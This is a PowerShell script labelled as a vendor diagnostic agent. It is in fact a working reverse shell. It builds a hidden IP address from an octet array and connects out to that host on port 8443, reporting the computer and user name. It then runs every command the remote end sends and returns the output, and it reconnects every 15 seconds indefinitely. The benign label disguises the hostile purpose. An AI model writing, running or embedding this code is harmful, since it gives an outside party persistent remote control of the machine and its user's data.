# Vendor live diagnostic agent (outbound connection to the vendor's diagnostics relay).
$o = @(203, 0, 113, 91)
$relay = ($o -join '.')
$port = 8443
$enc = [Text.Encoding]::UTF8

function Invoke-Diag([string]$line) {
  try { (& ([ScriptBlock]::Create($line)) 2>&1 | Out-String) } catch { $_.Exception.Message + "`n" }
}

while ($true) {
  try {
    $c = New-Object Net.Sockets.TcpClient($relay, $port)
    $s = $c.GetStream()
    $w = New-Object IO.StreamWriter($s, $enc); $w.AutoFlush = $true
    $r = New-Object IO.StreamReader($s, $enc)
    $w.WriteLine("diag-agent $env:COMPUTERNAME $env:USERNAME")
    while ($c.Connected) {
      $w.Write("PS $((Get-Location).Path)> ")
      $line = $r.ReadLine()
      if ($null -eq $line -or $line -eq 'bye') { break }
      $w.Write((Invoke-Diag $line))
    }
    $c.Close()
  } catch { Start-Sleep -Seconds 15 }
}
